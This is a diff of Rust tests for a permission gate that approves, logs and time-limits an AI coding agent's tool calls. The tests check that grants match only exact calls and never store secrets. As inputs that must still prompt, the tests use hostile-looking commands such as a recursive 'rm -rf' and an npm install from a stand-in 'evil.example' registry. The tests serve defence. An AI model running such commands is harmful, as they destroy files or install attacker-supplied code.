@@ -7,8 +7,11 @@ use std::process::{Child, Stdio};
 use std::time::Duration;
 
 use claudectl_agents::processes::{Processes, System};
+use claudectl_fleet::session::rfc3339;
 use claudectl_testkit::claude::drive::Drive;
-use claudectl_testkit::{Claude, Cmd, LiveProcess, Mock, RegistryRow, Terminal, World, now_ms, wait_for};
+use claudectl_testkit::{
+    Claude, Cmd, LiveProcess, Mock, RegistryRow, Terminal, Transcript, World, now_ms, wait_for,
+};
 use rustix::process::{Pid, Signal, kill_process};
 use serde_json::{Value, json};
 
@@ -284,22 +287,30 @@ fn an_answer_is_not_for_the_call_that_comes_next() {
 }
 
 #[test]
-fn what_is_always_allowed_is_a_rule_that_ends() {
+fn what_is_always_allowed_is_a_grant_that_ends() {
     let world = world();
     world.run(["tick"]).success();
     let waiting = Waiting::start(&world, A, "t1", &bash("unheard-of --once"));
     let out = cmd(&world, &["approve", A, "--always"]).run().success();
-    assert!(out.stdout.contains("Kept as allow unheard-of --once"), "{}", out.stdout);
+    assert!(out.stdout.contains("Kept as g1, of exactly this call"), "{}", out.stdout);
     assert_eq!(decision(&waiting.told()).0, "allow");
-    let rules = std::fs::read_to_string(world.home().join(".config/claudectl/rules.toml")).unwrap();
-    assert!(rules.contains("unheard-of --once") && rules.contains("expires"), "{rules}");
+    assert!(!world.home().join(".config/claudectl/rules.toml").exists());
+    let listed = cmd(&world, &["rules", "ls"]).run().success().stdout;
+    assert!(listed.contains("exactly: Bash unheard-of --once; in $WORK; until "), "{listed}");
+    assert!(listed.contains("allow  g1  (for a while)"), "{listed}");
     let checked = cmd(&world, &["gate", "check", "unheard-of --once"]).run();
     assert_eq!((checked.code, checked.stdout.starts_with("allow")), (0, true), "{checked:?}");
-    cmd(&world, &["gate", "check", "unheard-of --twice"]).run().fails_with(1);
+    assert!(checked.stdout.contains("you have allowed exactly this call (g1)"), "{checked:?}");
+    for like in ["unheard-of --twice", "unheard-of --once --twice", "unheard-of  --once"] {
+        cmd(&world, &["gate", "check", like]).run().fails_with(1);
+    }
+    world.write("work/sub/x", "");
+    let elsewhere = cmd(&world, &["gate", "check", "unheard-of --once", "--cwd", "sub"]).run().fails_with(1);
+    assert!(elsewhere.stdout.starts_with("ask"), "in another folder it asks: {elsewhere:?}");
 
     let waiting = Waiting::start(&world, A, "t2", &bash("unheard-of --session"));
     let done = cmd(&world, &["approve", A, "--for", "20m", "--call", "t2", "--json"]).run().success().json();
-    assert_eq!(done["rule"], "g1");
+    assert_eq!(done["rule"], "g2");
     assert_eq!(decision(&waiting.told()).0, "allow");
     let other = cmd(&world, &["gate", "check", "unheard-of --session"]).run().fails_with(1);
     assert!(other.stdout.starts_with("ask"), "in another session it asks: {}", other.stdout);
@@ -310,12 +321,14 @@ fn what_is_always_allowed_is_a_rule_that_ends() {
         json!({"tool_name": "Bash", "tool_input": {"command": "unheard-of --session"}, "tool_use_id": "t3"}),
     );
     let log = cmd(&world, &["gate", "log", "--json"]).run().success().json();
-    assert_eq!((&log[0]["verdict"], &log[0]["rule"]), (&json!("allow"), &json!("g1")), "{}", log[0]);
+    assert_eq!((&log[0]["verdict"], &log[0]["rule"]), (&json!("allow"), &json!("g2")), "{}", log[0]);
+    assert_eq!(log[0]["reason"], "you have allowed exactly this call (g2)");
 
-    // What no rule covers is answered this once, or not at all.
+    // What cannot be understood is answered this once, or not at all.
     let waiting = Waiting::start(&world, A, "t4", &bash("X=$(date); $X"));
     let out = cmd(&world, &["approve", A, "--call", "t4", "--always"]).run().fails_with(1);
-    assert!(out.stderr.contains("no rule would cover"), "{}", out.stderr);
+    assert!(out.stderr.contains("this call can only be answered this once"), "{}", out.stderr);
+    assert!(out.stderr.contains("cannot be understood"), "{}", out.stderr);
     cmd(&world, &["approve", A, "--call", "t4"]).run().success();
     assert_eq!(decision(&waiting.told()).0, "allow");
 
@@ -457,11 +470,65 @@ fn an_answer_of_which_nothing_is_heard_is_not_called_too_late() {
             assert_eq!(note.contains("may have been told, or not"), state == "unknown", "{note}");
             assert_eq!(done["rule"].is_null(), code == 1, "{done}");
         });
-        let rules = world.home().join(".config/claudectl/rules.toml");
-        assert_eq!(rules.exists(), code == 0);
+        assert_eq!(rules(&world).is_empty(), code == 1);
         let audit = cmd(&world, &["gate", "audit", "--json"]).run().success().json();
         assert_eq!(audit.as_array().unwrap().iter().any(|one| one["kind"] == "approve"), audited, "{audit}");
     }
+}
+
+/// Our hook hands an answer over; it is the person's all the same.
+#[test]
+fn a_report_counts_an_answer_from_elsewhere_as_the_persons() {
+    let world = world();
+    world.run(["tick"]).success();
+    let mut transcript = Transcript::new(A, world.work_dir());
+    transcript.at(&rfc3339(now_ms()).unwrap()).model("claude-opus-5-5").prompt("go");
+    transcript.write(&world.config_dir());
+    for (id, command) in [("t1", "approve"), ("t2", "deny")] {
+        let waiting = Waiting::start(&world, A, id, &bash(&format!("unheard-of {id}")));
+        cmd(&world, &[command, A, "--call", id]).run().success();
+        waiting.told();
+    }
+    let report = cmd(&world, &["report", "--since", "1h", "--json"]).run().success().json();
+    assert_eq!(report["totals"]["dialogs"], json!({"allowed": 1, "turned-down": 1}), "{report}");
+}
+
+/// A client that was killed leaves its row behind, and its prompt is over.
+#[test]
+fn a_prompt_of_a_client_that_was_killed_is_over() {
+    let world = world();
+    world.run(["tick"]).success();
+    let process = LiveProcess::start(&world.work_dir());
+    RegistryRow::new(process.pid(), A, world.work_dir())
+        .waiting_for("permission prompt")
+        .write(&world.config_dir());
+    let listed = || cmd(&world, &["approve"]).run().success().stdout;
+    assert!(listed().contains("asks at its terminal"), "{}", listed());
+    drop(process);
+    assert!(listed().starts_with("No prompt is open"), "{}", listed());
+    assert!(!listed().contains("asks at its terminal"), "{}", listed());
+}
+
+/// Hooks that stand before calls, and none beside prompts: the entry that is missing is named.
+#[test]
+fn an_entry_that_is_missing_is_named() {
+    let world = world();
+    world.run(["tick"]).success();
+    let process = LiveProcess::start(&world.work_dir());
+    RegistryRow::new(process.pid(), A, world.work_dir())
+        .version("2.1.330")
+        .waiting_for("permission prompt")
+        .write(&world.config_dir());
+    world.run(["init", "--binary", "/bin/true", "--host-version", "2.1.330"]).success();
+    let file = world.config_dir().join("settings.json");
+    let mut settings: Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
+    settings["hooks"].as_object_mut().unwrap().remove("PermissionRequest");
+    std::fs::write(&file, settings.to_string()).unwrap();
+    let said = "user settings do not call claudectl beside prompts (PermissionRequest): there is no entry";
+    let out = cmd(&world, &["approve", A]).run().fails_with(1);
+    assert!(out.stderr.contains(said) && !out.stderr.contains("older than our hooks"), "{}", out.stderr);
+    let shown = cmd(&world, &["ls", "--json"]).run().success().json();
+    assert!(shown[0]["gate"]["cause"].as_str().unwrap_or_default().contains(said), "{shown}");
 }
 
 /// Who sits there is told why, and what to do, whatever the reason is.
@@ -658,24 +725,16 @@ fn the_same_rule_is_kept_once() {
     let mut waiting = ids.map(|id| Waiting::start(&world, A, id, &one)).into_iter();
     let mut answer = |id: &str| {
         let out = cmd(&world, &["approve", A, "--call", id, "--always", "--json"]).run().success().json();
-        assert_eq!(out["rule"], "allow unheard-of --once");
-        assert_eq!(rules(&world), ["allow unheard-of --once"]);
+        assert_eq!(rules(&world), [out["rule"].as_str().unwrap()], "the one that holds for longest is left");
         assert_eq!(decision(&waiting.next().unwrap().told()).0, "allow");
+        out["rule"].as_str().unwrap().to_owned()
     };
-    let file = world.home().join(".config/claudectl/rules.toml");
-    let ends = || {
-        let text = std::fs::read_to_string(&file).unwrap();
-        text.lines().find_map(|line| Some(line.strip_prefix("expires = ")?.to_owned())).unwrap()
-    };
-    answer("t1");
-    let first = ends();
-    // For as long or a shorter time nothing changes, for a longer one it does.
-    answer("t2");
-    for (id, days, longer) in [("t3", "10d", false), ("t4", "60d", true)] {
+    assert_eq!(answer("t1"), "g1");
+    // For a shorter time nothing changes, for a longer one it does.
+    for (id, days, name) in [("t2", "10d", "g1"), ("t3", "60d", "g2"), ("t4", "20d", "g2")] {
         let settings = format!("[approvals]\nalways_for = \"{days}\"\n");
         world.write("home/.config/claudectl/config.toml", settings);
-        answer(id);
-        assert_eq!(ends()[..8] > first[..8], longer, "{days}");
+        assert_eq!(answer(id), name, "{days}");
     }
     let two =
         [Waiting::start(&world, A, "t5", &bash("other")), Waiting::start(&world, A, "t6", &bash("other"))];
@@ -683,14 +742,14 @@ fn the_same_rule_is_kept_once() {
         ["t5", "t6"].into_iter().zip(["2h", "1h"]).zip(two).map(|((a, b), c)| (a, b, c))
     {
         let out = cmd(&world, &["approve", A, "--call", id, "--for", time, "--json"]).run().success().json();
-        assert_eq!(out["rule"], "g1");
+        assert_eq!(out["rule"], "g3");
         assert_eq!(decision(&waiting.told()).0, "allow");
     }
 }
 
-/// The answer lands, and the secret is kept nowhere.
+/// What is kept is a hash: the secret stands nowhere, and another secret is another call.
 #[test]
-fn no_rule_is_made_of_a_call_with_a_secret() {
+fn what_is_kept_of_a_call_with_a_secret_has_none_of_it() {
     let world = world();
     world.run(["tick"]).success();
     let secret = "hunterhunter7";
@@ -701,13 +760,70 @@ fn no_rule_is_made_of_a_call_with_a_secret() {
     ] {
         let waiting = Waiting::start(&world, A, id, &bash(&format!("unheard-of --password={secret} {id}")));
         let out = cmd(&world, &[&[command, A, "--call", id], holds].concat()).run().success();
-        assert!(out.stdout.contains("No rule was kept: the call holds a secret"), "{out:?}");
-        assert!(!format!("{out:?}").contains(secret) && !out.stdout.contains("Kept as"), "{out:?}");
+        assert!(!format!("{out:?}").contains(secret) && out.stdout.contains("Kept as g"), "{out:?}");
         assert_eq!(decision(&waiting.told()).0, if command == "approve" { "allow" } else { "deny" });
     }
-    assert!(!world.home().join(".config/claudectl/rules.toml").exists());
-    let rules = cmd(&world, &["rules", "ls", "--json"]).run().success().json();
-    assert_eq!(rules["rules"], json!([]), "{rules}");
+    for (call, verdict) in [
+        (format!("unheard-of --password={secret} t1"), "allow"),
+        (format!("unheard-of --password={secret} t3"), "deny"),
+        ("unheard-of --password=fisherfisher8 t1".to_owned(), "ask"),
+    ] {
+        let checked = cmd(&world, &["gate", "check", &call, "--json"]).run().json();
+        assert_eq!(checked["verdict"], verdict, "{checked}");
+    }
+    let listed = cmd(&world, &["rules", "ls"]).run().success().stdout;
+    assert!(listed.contains("exactly: Bash unheard-of --password=[redacted:"), "{listed}");
+    for (path, content) in crate::tree(&world.state_dir()) {
+        assert!(!String::from_utf8_lossy(&content).contains(secret), "{}", path.display());
+    }
+}
+
+/// What a person keeps is about the call that they saw, whichever tool it is of.
+#[test]
+fn what_is_kept_for_a_while_reaches_no_other_call() {
+    let world = world();
+    world.write("work/src/a.txt", "");
+    world.run(["tick"]).success();
+    let of = |tool: &str, input: Value| json!({"tool_name": tool, "tool_input": input});
+    let table = [
+        (bash("rm src/a.txt"), bash("rm -rf src/a.txt src")),
+        (bash("npm install lodash"), bash("npm install lodash --registry https://evil.example")),
+        (
+            of("WebFetch", json!({"url": "https://a.example/", "prompt": "p"})),
+            of("WebFetch", json!({"url": "https://b.example/", "prompt": "p"})),
+        ),
+        (of("mcp__x__echo", json!({"text": "hello"})), of("mcp__x__echo", json!({"text": "bye"}))),
+    ];
+    for (at, (seen, like)) in table.iter().enumerate() {
+        let id = format!("s{at}");
+        let waiting = Waiting::start(&world, A, &id, seen);
+        cmd(&world, &["approve", A, "--call", &id, "--for", "1h"]).run().success();
+        assert_eq!(decision(&waiting.told()).0, "allow");
+        let listed = cmd(&world, &["rules", "ls", "--json"]).run().success().json();
+        let kept = &listed["rules"][at];
+        assert_eq!(
+            (&kept["exactly"]["tool"], &kept["by"]),
+            (&seen["tool_name"], &json!("grant")),
+            "{listed}"
+        );
+        let mut titled = seen.clone();
+        if seen["tool_name"] == "Bash" {
+            titled["tool_input"]["description"] = json!("another title");
+        }
+        for (call, verdict) in [(seen, "allow"), (&titled, "allow"), (like, "ask")] {
+            let mut made = call.clone();
+            made["tool_use_id"] = json!(format!("{id}-{verdict}"));
+            let told = event(&world, A, "PreToolUse", made);
+            let said = hook(&world, &told).run().success().json();
+            assert_eq!(said["hookSpecificOutput"]["permissionDecision"], verdict, "{call}");
+        }
+        // Neither does it reach another session.
+        let mut made = seen.clone();
+        made["tool_use_id"] = json!(format!("{id}-other"));
+        let told = event(&world, "eeeeeeee-0000-4000-8000-000000000005", "PreToolUse", made);
+        let said = hook(&world, &told).run().success().json();
+        assert_eq!(said["hookSpecificOutput"]["permissionDecision"], "ask", "{seen}");
+    }
 }
 
 #[test]
